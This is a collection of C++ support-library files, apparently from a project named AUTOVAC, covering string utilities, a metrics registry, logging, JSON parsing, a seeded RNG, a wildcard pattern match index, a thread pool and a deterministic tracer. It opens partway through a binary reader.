    std::memcpy(out, &bits, sizeof(*out));
    return true;
  }
  bool Str(std::string* out) {
    uint32_t length;
    if (!U32(&length)) return false;
    if (pos + length > data.size()) return false;
    out->assign(data.data() + pos, length);
    pos += length;
    return true;
  }
  [[nodiscard]] bool Done() const { return pos == data.size(); }
};

}  // namespace autovac
