// String utilities used throughout AUTOVAC: joining/splitting, case
// folding, printf-style formatting, and identifier-oriented predicates.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace autovac {

// printf-style formatting into a std::string.
[[nodiscard]] std::string StrFormat(const char* fmt, ...)
    __attribute__((format(printf, 1, 2)));

// Joins the elements of `parts` with `sep`.
[[nodiscard]] std::string StrJoin(const std::vector<std::string>& parts,
                                  std::string_view sep);

// Splits `text` on any character occurring in `delims`; empty tokens are
// dropped when `keep_empty` is false.
[[nodiscard]] std::vector<std::string> StrSplit(std::string_view text,
                                                std::string_view delims,
                                                bool keep_empty = false);

[[nodiscard]] std::string ToLower(std::string_view text);
[[nodiscard]] std::string ToUpper(std::string_view text);

// Case-insensitive comparison (ASCII).
[[nodiscard]] bool EqualsIgnoreCase(std::string_view a, std::string_view b);

// Strips ASCII whitespace from both ends.
[[nodiscard]] std::string_view StripWhitespace(std::string_view text);

// True when every character is printable ASCII.
[[nodiscard]] bool IsPrintableAscii(std::string_view text);

// Escapes non-printable bytes as \xNN for log/report output.
[[nodiscard]] std::string CEscape(std::string_view text);

// Escapes a string for embedding inside a JSON string literal (quotes,
// backslashes, control characters).
[[nodiscard]] std::string JsonEscape(std::string_view text);

// Parses a non-negative integer; returns false on any malformed input.
[[nodiscard]] bool ParseUint64(std::string_view text, uint64_t* out);
[[nodiscard]] bool ParseInt64(std::string_view text, int64_t* out);

// Longest common prefix length of two strings.
[[nodiscard]] size_t CommonPrefixLength(std::string_view a,
                                        std::string_view b);

}  // namespace autovac
