#include "support/table.h"

#include <algorithm>

namespace autovac {

std::string TextTable::Render() const {
  std::vector<size_t> widths(header_.size());
  for (size_t i = 0; i < header_.size(); ++i) widths[i] = header_[i].size();
  for (const auto& row : rows_) {
    for (size_t i = 0; i < row.size(); ++i) {
      if (i >= widths.size()) widths.resize(i + 1, 0);
      widths[i] = std::max(widths[i], row[i].size());
    }
  }

  auto render_row = [&](const std::vector<std::string>& cells) {
    std::string line;
    for (size_t i = 0; i < widths.size(); ++i) {
      const std::string& cell = i < cells.size() ? cells[i] : std::string();
      line += "| " + cell + std::string(widths[i] - cell.size(), ' ') + " ";
    }
    line += "|\n";
    return line;
  };

  std::string out = render_row(header_);
  std::string sep;
  for (size_t w : widths) sep += "|" + std::string(w + 2, '-');
  out += sep + "|\n";
  for (const auto& row : rows_) out += render_row(row);
  return out;
}

}  // namespace autovac
