#include "support/metrics.h"

#include <algorithm>

#include "support/strings.h"
#include "support/table.h"

namespace autovac {

const char* MetricKindName(MetricKind kind) {
  switch (kind) {
    case MetricKind::kCounter: return "counter";
    case MetricKind::kGauge: return "gauge";
    case MetricKind::kHistogram: return "histogram";
  }
  return "?";
}

Histogram::Histogram(std::vector<uint64_t> bounds)
    : bounds_(std::move(bounds)), buckets_(bounds_.size() + 1) {
  AUTOVAC_CHECK_MSG(std::is_sorted(bounds_.begin(), bounds_.end()) &&
                        std::adjacent_find(bounds_.begin(), bounds_.end()) ==
                            bounds_.end(),
                    "histogram bounds must be strictly increasing");
}

void Histogram::Record(uint64_t value) {
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  const auto index = static_cast<size_t>(it - bounds_.begin());
  buckets_[index].fetch_add(1, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(value, std::memory_order_relaxed);
}

std::vector<uint64_t> Histogram::bucket_counts() const {
  std::vector<uint64_t> counts;
  counts.reserve(buckets_.size());
  for (const auto& bucket : buckets_) {
    counts.push_back(bucket.load(std::memory_order_relaxed));
  }
  return counts;
}

void Histogram::Reset() {
  for (auto& bucket : buckets_) bucket.store(0, std::memory_order_relaxed);
  count_.store(0, std::memory_order_relaxed);
  sum_.store(0, std::memory_order_relaxed);
}

Counter* MetricsRegistry::GetCounter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  const uint32_t id = names_.Find(name);
  if (id != StringInterner::kInvalidId) {
    AUTOVAC_CHECK_MSG(entries_[id].kind == MetricKind::kCounter,
                      "metric registered with a different kind");
    return &counters_[entries_[id].index];
  }
  names_.Intern(name);
  counters_.emplace_back();
  entries_.push_back({MetricKind::kCounter, counters_.size() - 1});
  return &counters_.back();
}

Gauge* MetricsRegistry::GetGauge(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  const uint32_t id = names_.Find(name);
  if (id != StringInterner::kInvalidId) {
    AUTOVAC_CHECK_MSG(entries_[id].kind == MetricKind::kGauge,
                      "metric registered with a different kind");
    return &gauges_[entries_[id].index];
  }
  names_.Intern(name);
  gauges_.emplace_back();
  entries_.push_back({MetricKind::kGauge, gauges_.size() - 1});
  return &gauges_.back();
}

Histogram* MetricsRegistry::GetHistogram(std::string_view name,
                                         std::vector<uint64_t> bounds) {
  std::lock_guard<std::mutex> lock(mu_);
  const uint32_t id = names_.Find(name);
  if (id != StringInterner::kInvalidId) {
    AUTOVAC_CHECK_MSG(entries_[id].kind == MetricKind::kHistogram,
                      "metric registered with a different kind");
    return &histograms_[entries_[id].index];
  }
  names_.Intern(name);
  histograms_.emplace_back(std::move(bounds));
  entries_.push_back({MetricKind::kHistogram, histograms_.size() - 1});
  return &histograms_.back();
}

void MetricsRegistry::Reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (Counter& counter : counters_) counter.Reset();
  for (Gauge& gauge : gauges_) gauge.Reset();
  for (Histogram& histogram : histograms_) histogram.Reset();
}

std::vector<MetricSample> MetricsRegistry::Snapshot() const {
  std::vector<MetricSample> samples;
  {
    std::lock_guard<std::mutex> lock(mu_);
    samples.reserve(entries_.size());
    for (uint32_t id = 0; id < entries_.size(); ++id) {
      const Entry& entry = entries_[id];
      MetricSample sample;
      sample.name = names_.Lookup(id);
      sample.kind = entry.kind;
      switch (entry.kind) {
        case MetricKind::kCounter:
          sample.value =
              static_cast<int64_t>(counters_[entry.index].value());
          break;
        case MetricKind::kGauge:
          sample.value = gauges_[entry.index].value();
          break;
        case MetricKind::kHistogram: {
          const Histogram& histogram = histograms_[entry.index];
          sample.value = static_cast<int64_t>(histogram.count());
          sample.sum = histogram.sum();
          sample.bounds = histogram.bounds();
          sample.buckets = histogram.bucket_counts();
          break;
        }
      }
      samples.push_back(std::move(sample));
    }
  }
  std::sort(samples.begin(), samples.end(),
            [](const MetricSample& a, const MetricSample& b) {
              return a.name < b.name;
            });
  return samples;
}

size_t MetricsRegistry::size() const {
  std::lock_guard<std::mutex> lock(mu_);
  return entries_.size();
}

MetricsRegistry& GlobalMetrics() {
  static MetricsRegistry* registry = new MetricsRegistry();
  return *registry;
}

std::string DumpMetrics(const std::vector<MetricSample>& samples) {
  TextTable table({"metric", "kind", "value", "detail"});
  for (const MetricSample& sample : samples) {
    std::string detail;
    if (sample.kind == MetricKind::kHistogram) {
      detail = StrFormat("sum=%llu",
                         static_cast<unsigned long long>(sample.sum));
      for (size_t i = 0; i < sample.buckets.size(); ++i) {
        const std::string edge =
            i < sample.bounds.size()
                ? StrFormat("le%llu", static_cast<unsigned long long>(
                                          sample.bounds[i]))
                : std::string("+inf");
        detail += StrFormat(" %s:%llu", edge.c_str(),
                            static_cast<unsigned long long>(sample.buckets[i]));
      }
    }
    table.AddRow({sample.name, MetricKindName(sample.kind),
                  StrFormat("%lld", static_cast<long long>(sample.value)),
                  detail});
  }
  return table.Render();
}

std::string ExportMetricsJsonl(const std::vector<MetricSample>& samples) {
  std::string out;
  for (const MetricSample& sample : samples) {
    out += StrFormat("{\"name\":\"%s\",\"kind\":\"%s\"",
                     JsonEscape(sample.name).c_str(),
                     MetricKindName(sample.kind));
    if (sample.kind == MetricKind::kHistogram) {
      out += StrFormat(",\"count\":%lld,\"sum\":%llu,\"buckets\":[",
                       static_cast<long long>(sample.value),
                       static_cast<unsigned long long>(sample.sum));
      for (size_t i = 0; i < sample.buckets.size(); ++i) {
        if (i > 0) out += ",";
        if (i < sample.bounds.size()) {
          out += StrFormat("{\"le\":%llu,\"count\":%llu}",
                           static_cast<unsigned long long>(sample.bounds[i]),
                           static_cast<unsigned long long>(sample.buckets[i]));
        } else {
          out += StrFormat("{\"le\":\"+inf\",\"count\":%llu}",
                           static_cast<unsigned long long>(sample.buckets[i]));
        }
      }
      out += "]";
    } else {
      out += StrFormat(",\"value\":%lld",
                       static_cast<long long>(sample.value));
    }
    out += "}\n";
  }
  return out;
}

}  // namespace autovac
