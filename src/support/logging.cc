#include "support/logging.h"

#include <atomic>
#include <cstdio>

namespace autovac {
namespace {

std::atomic<LogLevel> g_level{LogLevel::kWarning};

const char* LevelTag(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "D";
    case LogLevel::kInfo: return "I";
    case LogLevel::kWarning: return "W";
    case LogLevel::kError: return "E";
  }
  return "?";
}

}  // namespace

void SetLogLevel(LogLevel level) { g_level.store(level); }
LogLevel GetLogLevel() { return g_level.load(); }

void LogMessage(LogLevel level, const std::string& message) {
  if (level < g_level.load()) return;
  std::fprintf(stderr, "[%s] %s\n", LevelTag(level), message.c_str());
}

}  // namespace autovac
