#include "support/logging.h"

#include <atomic>
#include <cstdio>

namespace autovac {
namespace {

std::atomic<LogLevel> g_level{LogLevel::kWarning};
std::atomic<LogSink*> g_sink{nullptr};

const char* LevelTag(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "D";
    case LogLevel::kInfo: return "I";
    case LogLevel::kWarning: return "W";
    case LogLevel::kError: return "E";
    case LogLevel::kOff: return "O";  // unreachable: nothing logs at kOff
  }
  return "?";
}

}  // namespace

void SetLogLevel(LogLevel level) { g_level.store(level); }
LogLevel GetLogLevel() { return g_level.load(); }

LogSink* SetLogSink(LogSink* sink) { return g_sink.exchange(sink); }

void LogMessage(LogLevel level, const std::string& message) {
  if (level < g_level.load() || level >= LogLevel::kOff) return;
  if (LogSink* sink = g_sink.load(); sink != nullptr) {
    sink->Write(level, message);
    return;
  }
  std::fprintf(stderr, "[%s] %s\n", LevelTag(level), message.c_str());
}

}  // namespace autovac
