// Minimal JSON reader for the durable-campaign layer.
//
// The repo writes JSON by hand (metrics JSONL, Chrome traces, bench
// summaries) but until the write-ahead journal nothing needed to read it
// back. This parser covers exactly the subset those writers emit:
// objects, arrays, strings with \-escapes, integers/doubles, booleans and
// null. Numbers are kept as their literal token so 64-bit integers
// round-trip exactly (a double would silently lose precision past 2^53 —
// span tick totals get there).
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "support/status.h"

namespace autovac {

class JsonValue {
 public:
  enum class Kind : uint8_t {
    kNull = 0,
    kBool,
    kNumber,
    kString,
    kArray,
    kObject,
  };

  Kind kind = Kind::kNull;
  bool bool_value = false;
  std::string number;        // literal token, e.g. "-12" or "0.25"
  std::string string_value;  // unescaped bytes
  std::vector<JsonValue> array;
  // Insertion-ordered; duplicate keys keep the last occurrence on lookup.
  std::vector<std::pair<std::string, JsonValue>> object;

  [[nodiscard]] bool is_null() const { return kind == Kind::kNull; }
  [[nodiscard]] bool is_object() const { return kind == Kind::kObject; }
  [[nodiscard]] bool is_array() const { return kind == Kind::kArray; }
  [[nodiscard]] bool is_string() const { return kind == Kind::kString; }
  [[nodiscard]] bool is_number() const { return kind == Kind::kNumber; }
  [[nodiscard]] bool is_bool() const { return kind == Kind::kBool; }

  // Object member lookup; null when absent or not an object.
  [[nodiscard]] const JsonValue* Find(std::string_view key) const;

  // Typed accessors returning InvalidArgument on kind/format mismatch.
  [[nodiscard]] Result<uint64_t> AsUint64() const;
  [[nodiscard]] Result<int64_t> AsInt64() const;
  [[nodiscard]] Result<double> AsDouble() const;
  [[nodiscard]] Result<bool> AsBool() const;
  [[nodiscard]] Result<std::string> AsString() const;
};

// Parses exactly one JSON value; trailing non-whitespace is an error.
[[nodiscard]] Result<JsonValue> ParseJson(std::string_view text);

// Convenience over Find + typed accessor, with a keyed error message.
[[nodiscard]] Result<uint64_t> JsonFieldUint64(const JsonValue& object,
                                               std::string_view key);
[[nodiscard]] Result<std::string> JsonFieldString(const JsonValue& object,
                                                  std::string_view key);
[[nodiscard]] Result<bool> JsonFieldBool(const JsonValue& object,
                                         std::string_view key);

}  // namespace autovac
