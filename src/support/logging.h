// Minimal leveled logger. Defaults to WARNING so library code stays quiet
// in tests and benches; examples raise the level for narration, benches
// can silence it entirely with kOff. Output routes through a pluggable
// sink so tests can capture log lines.
#pragma once

#include <string>

#include "support/strings.h"

namespace autovac {

// kOff is strictly above every real level: setting it as the process
// minimum suppresses all logging, and no message can be logged at it.
enum class LogLevel {
  kDebug = 0,
  kInfo = 1,
  kWarning = 2,
  kError = 3,
  kOff = 4,
};

// Process-wide minimum level.
void SetLogLevel(LogLevel level);
[[nodiscard]] LogLevel GetLogLevel();

// Destination for formatted log messages. Implementations must be
// callable for the lifetime of their installation.
class LogSink {
 public:
  virtual ~LogSink() = default;
  virtual void Write(LogLevel level, const std::string& message) = 0;
};

// Installs `sink` (nullptr restores the default stderr sink) and returns
// the previously installed sink, nullptr if it was the default.
LogSink* SetLogSink(LogSink* sink);

void LogMessage(LogLevel level, const std::string& message);

template <typename... Args>
void LogDebug(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kDebug) {
    LogMessage(LogLevel::kDebug, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogInfo(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kInfo) {
    LogMessage(LogLevel::kInfo, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogWarning(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kWarning) {
    LogMessage(LogLevel::kWarning, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogError(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kError) {
    LogMessage(LogLevel::kError, StrFormat(fmt, args...));
  }
}

}  // namespace autovac
