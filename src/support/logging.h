// Minimal leveled logger. Defaults to WARNING so library code stays quiet
// in tests and benches; examples raise the level for narration.
#pragma once

#include <string>

#include "support/strings.h"

namespace autovac {

enum class LogLevel { kDebug = 0, kInfo = 1, kWarning = 2, kError = 3 };

// Process-wide minimum level.
void SetLogLevel(LogLevel level);
[[nodiscard]] LogLevel GetLogLevel();

void LogMessage(LogLevel level, const std::string& message);

template <typename... Args>
void LogDebug(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kDebug) {
    LogMessage(LogLevel::kDebug, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogInfo(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kInfo) {
    LogMessage(LogLevel::kInfo, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogWarning(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kWarning) {
    LogMessage(LogLevel::kWarning, StrFormat(fmt, args...));
  }
}
template <typename... Args>
void LogError(const char* fmt, Args... args) {
  if (GetLogLevel() <= LogLevel::kError) {
    LogMessage(LogLevel::kError, StrFormat(fmt, args...));
  }
}

}  // namespace autovac
