// Process-wide metrics registry: counters, gauges (high-water marks) and
// fixed-bucket histograms, addressed by interned names. Registration
// (name lookup) takes a mutex; the hot path — incrementing through a
// cached handle — is a single relaxed atomic op, so instrumented code can
// hold a `Counter*` forever and never contend.
//
// Every exported value is deterministic under a fixed seed: snapshots are
// sorted by name and contain only integer fields, so two identically
// seeded pipeline runs produce byte-identical JSONL dumps (the chaos
// harness asserts this). Wall-clock time never enters the registry.
#pragma once

#include <atomic>
#include <cstdint>
#include <deque>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "support/interner.h"

namespace autovac {

// Monotonic event count.
class Counter {
 public:
  void Increment(uint64_t delta = 1) {
    value_.fetch_add(delta, std::memory_order_relaxed);
  }
  [[nodiscard]] uint64_t value() const {
    return value_.load(std::memory_order_relaxed);
  }
  void Reset() { value_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<uint64_t> value_{0};
};

// Last-written or maximum-observed value (high-water marks use
// UpdateMax). Lock-free: UpdateMax is a CAS loop that only writes when
// the candidate is larger.
class Gauge {
 public:
  void Set(int64_t value) { value_.store(value, std::memory_order_relaxed); }
  void UpdateMax(int64_t candidate) {
    int64_t seen = value_.load(std::memory_order_relaxed);
    while (candidate > seen &&
           !value_.compare_exchange_weak(seen, candidate,
                                         std::memory_order_relaxed)) {
    }
  }
  [[nodiscard]] int64_t value() const {
    return value_.load(std::memory_order_relaxed);
  }
  void Reset() { value_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<int64_t> value_{0};
};

// Fixed-bucket histogram. `bounds` are inclusive upper edges ("le"): a
// recorded value lands in the first bucket whose bound >= value; values
// above the last bound land in the implicit +inf bucket.
class Histogram {
 public:
  explicit Histogram(std::vector<uint64_t> bounds);

  void Record(uint64_t value);

  [[nodiscard]] uint64_t count() const {
    return count_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] uint64_t sum() const {
    return sum_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] const std::vector<uint64_t>& bounds() const { return bounds_; }
  // bounds().size() + 1 entries; the last is the +inf bucket.
  [[nodiscard]] std::vector<uint64_t> bucket_counts() const;
  void Reset();

 private:
  std::vector<uint64_t> bounds_;
  std::vector<std::atomic<uint64_t>> buckets_;
  std::atomic<uint64_t> count_{0};
  std::atomic<uint64_t> sum_{0};
};

enum class MetricKind { kCounter = 0, kGauge, kHistogram };

[[nodiscard]] const char* MetricKindName(MetricKind kind);

// One metric's state at snapshot time. Integer-only by design.
struct MetricSample {
  std::string name;
  MetricKind kind = MetricKind::kCounter;
  int64_t value = 0;                 // counter/gauge value; histogram count
  uint64_t sum = 0;                  // histogram only
  std::vector<uint64_t> bounds;      // histogram only
  std::vector<uint64_t> buckets;     // histogram only (last = +inf)
};

class MetricsRegistry {
 public:
  // Returns a stable handle, creating the metric on first use. Asking
  // for an existing name with a different kind is a programmer error.
  Counter* GetCounter(std::string_view name);
  Gauge* GetGauge(std::string_view name);
  // `bounds` must be strictly increasing; ignored when `name` already
  // exists (the first registration wins).
  Histogram* GetHistogram(std::string_view name, std::vector<uint64_t> bounds);

  // Zeroes every value; registrations (names, handles, bounds) survive.
  void Reset();

  // All metrics sorted by name — the canonical deterministic order.
  [[nodiscard]] std::vector<MetricSample> Snapshot() const;

  [[nodiscard]] size_t size() const;

 private:
  struct Entry {
    MetricKind kind;
    size_t index;  // into the deque for that kind
  };

  mutable std::mutex mu_;
  StringInterner names_;
  std::vector<Entry> entries_;  // indexed by interned name id
  // Deques: stable element addresses across growth, so handles never move.
  std::deque<Counter> counters_;
  std::deque<Gauge> gauges_;
  std::deque<Histogram> histograms_;
};

// The process-wide registry all instrumentation writes to.
[[nodiscard]] MetricsRegistry& GlobalMetrics();

// Human-readable table (support/table) of a snapshot.
[[nodiscard]] std::string DumpMetrics(const std::vector<MetricSample>& samples);

// One JSON object per line, e.g.
//   {"name":"vm.instructions_retired","kind":"counter","value":1234}
// Deterministic: callers pass Snapshot() output, already name-sorted.
[[nodiscard]] std::string ExportMetricsJsonl(
    const std::vector<MetricSample>& samples);

}  // namespace autovac
