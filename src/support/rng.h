// Deterministic, seedable PRNG (splitmix64 + xoshiro256**) so every
// experiment in the repo is reproducible bit-for-bit from its seed.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace autovac {

class Rng {
 public:
  explicit Rng(uint64_t seed) { Seed(seed); }

  void Seed(uint64_t seed);

  // Uniform over [0, 2^64).
  uint64_t NextU64();

  // Uniform over [0, bound). bound must be > 0.
  uint64_t NextBelow(uint64_t bound);

  // Uniform over [lo, hi] inclusive.
  int64_t NextInRange(int64_t lo, int64_t hi);

  // Uniform double in [0, 1).
  double NextDouble();

  // Bernoulli with probability p.
  bool NextBool(double p = 0.5);

  // Random lower-case alphanumeric identifier of the given length.
  std::string NextIdentifier(size_t length);

  // Picks one element (by const reference) from a non-empty vector.
  template <typename T>
  const T& Pick(const std::vector<T>& items) {
    return items[NextBelow(items.size())];
  }

  // Picks an index according to a weight table (weights need not sum to 1).
  size_t PickWeighted(const std::vector<double>& weights);

  // Fork a child RNG whose stream is independent of this one's future
  // output; used to give every corpus sample its own stable stream.
  Rng Fork(std::string_view label);

 private:
  uint64_t state_[4];
};

// Stable 64-bit hash of a string (used for deriving fork seeds).
[[nodiscard]] uint64_t HashSeed(std::string_view text);

}  // namespace autovac
