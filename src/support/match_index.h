// Compiled match index over wildcard Patterns.
//
// The vaccine daemon and the vacd query path both answer "which of these
// N patterns match this identifier?" on every intercepted API call.
// Scanning N glob matchers is O(N x len); this index answers in time
// proportional to the identifier length plus the number of *candidate*
// patterns:
//   * pure-literal patterns live in a hash table keyed by their text —
//     one lookup, no scan;
//   * wildcard patterns contribute their longest literal fragment
//     (Pattern::fragments(), derived from the compiled token stream) as
//     an anchor string to an Aho-Corasick automaton; a query walks the
//     automaton once, and only patterns whose anchor actually occurs in
//     the text are verified with the full glob matcher;
//   * the rare all-wildcard patterns ("*", "??") have no anchor and are
//     verified on every query.
//
// Match() returns exactly the ids a naive `for i: pattern[i].Matches(t)`
// loop would, in ascending id order — the equivalence the property tests
// in tests/match_index_test.cc assert across randomized patterns.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "support/pattern.h"

namespace autovac {

class PatternIndex {
 public:
  // Registers a pattern; ids are assigned densely in call order.
  size_t Add(Pattern pattern);

  // Compiles the automaton. Must be called after the last Add and before
  // the first Match; calling it again after more Adds recompiles.
  void Build();

  // Ids of every pattern matching `text`, ascending. Requires Build().
  // Thread-safe against concurrent Match/First calls (Build is not).
  [[nodiscard]] std::vector<size_t> Match(std::string_view text) const;

  // Smallest id matching `text`, or SIZE_MAX — the "first registered
  // pattern wins" rule the vaccine daemon's hook enforces. Stops at the
  // first verified candidate.
  [[nodiscard]] size_t First(std::string_view text) const;

  [[nodiscard]] const Pattern& pattern(size_t id) const {
    return patterns_[id];
  }
  [[nodiscard]] size_t size() const { return patterns_.size(); }
  [[nodiscard]] bool built() const { return built_; }

  // Introspection for tests and the serving bench.
  [[nodiscard]] size_t literal_patterns() const { return literal_count_; }
  [[nodiscard]] size_t anchored_patterns() const { return anchored_count_; }
  [[nodiscard]] size_t floating_patterns() const {
    return floating_.size();
  }
  [[nodiscard]] size_t automaton_nodes() const { return nodes_.size(); }

 private:
  struct Node {
    // Sorted outgoing edges (byte -> node index); binary-searched.
    std::vector<std::pair<unsigned char, int32_t>> edges;
    int32_t fail = 0;
    int32_t dict_suffix = -1;  // nearest fail-chain node with outputs
    std::vector<size_t> outputs;  // pattern ids whose anchor ends here
  };

  [[nodiscard]] int32_t EdgeTarget(int32_t node, unsigned char byte) const;
  void CollectCandidates(std::string_view text,
                         std::vector<size_t>& candidates) const;

  std::vector<Pattern> patterns_;
  bool built_ = false;

  // Literal fast path: pattern text (escapes resolved) -> ids, ascending.
  std::unordered_map<std::string, std::vector<size_t>> literals_;
  size_t literal_count_ = 0;
  size_t anchored_count_ = 0;
  std::vector<size_t> floating_;  // all-wildcard patterns, ascending

  std::vector<Node> nodes_;  // nodes_[0] is the root
};

}  // namespace autovac
