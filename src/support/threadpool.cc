#include "support/threadpool.h"

#include "support/metrics.h"

namespace autovac {

ThreadPool::ThreadPool(size_t num_threads) {
  if (num_threads == 0) num_threads = 1;
  workers_.reserve(num_threads);
  for (size_t i = 0; i < num_threads; ++i) {
    workers_.emplace_back([this] { WorkerLoop(); });
  }
}

ThreadPool::~ThreadPool() {
  Wait();
  {
    std::lock_guard<std::mutex> lock(mutex_);
    shutdown_ = true;
  }
  work_cv_.notify_all();
  for (std::thread& worker : workers_) worker.join();
}

void ThreadPool::Submit(std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    queue_.push_back(std::move(task));
  }
  work_cv_.notify_one();
}

void ThreadPool::Wait() {
  std::unique_lock<std::mutex> lock(mutex_);
  idle_cv_.wait(lock, [this] { return queue_.empty() && active_ == 0; });
}

void ThreadPool::WorkerLoop() {
  Gauge* busy_high_water = GlobalMetrics().GetGauge("threadpool.busy_high_water");
  for (;;) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      work_cv_.wait(lock, [this] { return shutdown_ || !queue_.empty(); });
      if (queue_.empty()) return;  // shutdown with nothing left
      task = std::move(queue_.front());
      queue_.pop_front();
      ++active_;
      busy_high_water->UpdateMax(static_cast<int64_t>(active_));
    }
    task();
    {
      std::lock_guard<std::mutex> lock(mutex_);
      --active_;
      if (queue_.empty() && active_ == 0) idle_cv_.notify_all();
    }
  }
}

}  // namespace autovac
