#include "support/tracing.h"

#include <algorithm>
#include <chrono>
#include <map>

#include "support/metrics.h"
#include "support/strings.h"

namespace autovac {
namespace {

// The default deterministic clock: cumulative instructions retired across
// every VM run in the process (flushed by Cpu::Run).
uint64_t InstructionTicks() {
  static Counter* instructions =
      GlobalMetrics().GetCounter("vm.instructions_retired");
  return instructions->value();
}

}  // namespace

void Tracer::set_tick_clock(TickClock clock) { clock_ = std::move(clock); }

uint64_t Tracer::Ticks() const {
  return clock_ ? clock_() : InstructionTicks();
}

uint64_t Tracer::WallNs() {
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

uint64_t Tracer::BeginSpan(std::string_view name) {
  if (!enabled_) return kNoSpan;
  SpanRecord span;
  span.name_id = names_.Intern(name);
  span.parent = open_.empty() ? kNoParent : open_.back();
  span.depth = static_cast<uint32_t>(open_.size());
  span.start_ticks = Ticks();
  span.start_wall_ns = WallNs();
  const auto id = static_cast<uint64_t>(spans_.size());
  spans_.push_back(span);
  open_.push_back(static_cast<uint32_t>(id));
  return id;
}

void Tracer::EndSpan(uint64_t id) {
  if (id == kNoSpan) return;
  AUTOVAC_CHECK_MSG(id < spans_.size(), "EndSpan: bad span id");
  AUTOVAC_CHECK_MSG(!open_.empty() && open_.back() == id,
                    "EndSpan: spans must close innermost-first");
  SpanRecord& span = spans_[id];
  span.end_ticks = Ticks();
  span.end_wall_ns = WallNs();
  span.closed = true;
  open_.pop_back();
}

void Tracer::Clear() {
  spans_.clear();
  open_.clear();
}

std::vector<PhaseTotal> Tracer::PhaseTotals(size_t first_span) const {
  std::map<std::string, PhaseTotal> totals;
  const uint64_t now_ticks = Ticks();
  const uint64_t now_wall = WallNs();
  for (size_t i = first_span; i < spans_.size(); ++i) {
    const SpanRecord& span = spans_[i];
    PhaseTotal& total = totals[SpanName(span)];
    total.name = SpanName(span);
    ++total.spans;
    total.ticks +=
        (span.closed ? span.end_ticks : now_ticks) - span.start_ticks;
    total.wall_ns +=
        (span.closed ? span.end_wall_ns : now_wall) - span.start_wall_ns;
  }
  std::vector<PhaseTotal> out;
  out.reserve(totals.size());
  for (auto& [name, total] : totals) out.push_back(std::move(total));
  return out;
}

Tracer& GlobalTracer() {
  static Tracer* tracer = new Tracer();
  return *tracer;
}

std::string ExportChromeTrace(const Tracer& tracer,
                              const ChromeTraceOptions& options) {
  std::string out = "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[";
  bool first = true;
  for (const SpanRecord& span : tracer.spans()) {
    if (!first) out += ",";
    first = false;
    const uint64_t dur = span.closed ? span.ticks() : 0;
    out += StrFormat(
        "\n{\"name\":\"%s\",\"cat\":\"autovac\",\"ph\":\"X\",\"pid\":1,"
        "\"tid\":1,\"ts\":%llu,\"dur\":%llu,\"args\":{\"depth\":%u",
        JsonEscape(tracer.SpanName(span)).c_str(),
        static_cast<unsigned long long>(span.start_ticks),
        static_cast<unsigned long long>(dur), span.depth);
    if (options.include_wall) {
      out += StrFormat(",\"wall_us\":%.3f",
                       static_cast<double>(span.closed ? span.wall_ns() : 0) /
                           1000.0);
    }
    out += "}}";
  }
  out += "\n]}\n";
  return out;
}

}  // namespace autovac
