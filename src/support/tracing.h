// Span-based phase tracer with a deterministic clock.
//
// The tick clock is the cumulative VM instruction counter (the metrics
// registry's "vm.instructions_retired"), not wall time, so two pipeline
// runs under the same seeds produce byte-identical span trees — the
// property the chaos harness asserts and every replay-based test relies
// on. Wall time is recorded alongside each span for human consumption
// (Chrome trace args, BENCH json) but must never appear in a field that
// tests compare, and never drives control flow.
//
// The tracer is intentionally single-threaded, like the pipeline it
// instruments: spans form one stack. When disabled (the default),
// BeginSpan costs exactly one branch.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <string_view>
#include <vector>

#include "support/interner.h"

namespace autovac {

inline constexpr uint64_t kNoSpan = UINT64_MAX;
inline constexpr uint32_t kNoParent = UINT32_MAX;

struct SpanRecord {
  uint32_t name_id = 0;        // interned via the tracer
  uint32_t parent = kNoParent; // index of the enclosing span
  uint32_t depth = 0;
  bool closed = false;
  // Deterministic clock (instructions retired).
  uint64_t start_ticks = 0;
  uint64_t end_ticks = 0;
  // Wall clock, ns — informational only, never compared by tests.
  uint64_t start_wall_ns = 0;
  uint64_t end_wall_ns = 0;

  [[nodiscard]] uint64_t ticks() const { return end_ticks - start_ticks; }
  [[nodiscard]] uint64_t wall_ns() const {
    return end_wall_ns - start_wall_ns;
  }
};

// Aggregate cost of every span sharing one name (inclusive time).
struct PhaseTotal {
  std::string name;
  uint64_t spans = 0;
  uint64_t ticks = 0;    // deterministic
  uint64_t wall_ns = 0;  // informational
};

class Tracer {
 public:
  using TickClock = std::function<uint64_t()>;

